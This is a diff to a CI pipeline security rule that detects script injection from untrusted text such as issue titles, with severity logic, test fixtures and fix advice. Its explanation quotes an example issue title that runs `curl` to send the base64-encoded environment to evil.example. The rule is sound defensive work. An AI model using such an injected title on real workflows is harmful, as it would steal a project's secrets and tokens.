@@ -25,7 +25,7 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither.',
+    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
     fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
     severity: "critical",
     confidence: "high",
@@ -200,6 +200,24 @@ export const secretInInjectableStep = definePolicy({
               jobs: [build]
         `,
       },
+      {
+        text: `
+          on:
+            issues:
+          env:
+            LAST: \${{ github.event.pull_request.title }}
+          jobs:
+            note:
+              permissions: {}
+              runs-on: ubuntu-latest
+              strategy:
+                matrix:
+                  text: ["\${{ github.event.issue.title }}"]
+              steps:
+                - run: echo "\${{ «matrix.text» }}"
+                - run: echo "\${{ «env.LAST» }}"
+        `,
+      },
     ],
     ok: [
       {
@@ -234,7 +252,7 @@ export const secretInInjectableStep = definePolicy({
               if: github.event_name == 'push'
               runs-on: ubuntu-latest
               steps:
-                - run: release \${{ inputs.level }} \${{ github.sha }} \${{ github.event.pull_request.title }}
+                - run: release \${{ inputs.level }} \${{ github.sha }} \${{ github.event.pull_request.number }}
         `,
       },
       {
@@ -380,6 +398,10 @@ interface Stake {
 
 function matchOf(model: GithubActionsModel, flows: PipelineFlows, injection: Injection): PolicyMatch[] {
   const stake = stakeOf(model, flows, injection);
+  if (injection.idle === true) {
+    const message = `The text of ${injection.path} becomes part of the script, and none of the events that start the workflow brings it today.`;
+    return [{ place: injection.place, severity: "low", message, related: related(stake.secret) }];
+  }
   const ranked = injection.chosen
     .flatMap((one) => {
       const severity = severityOf(model, injection, one, stake);
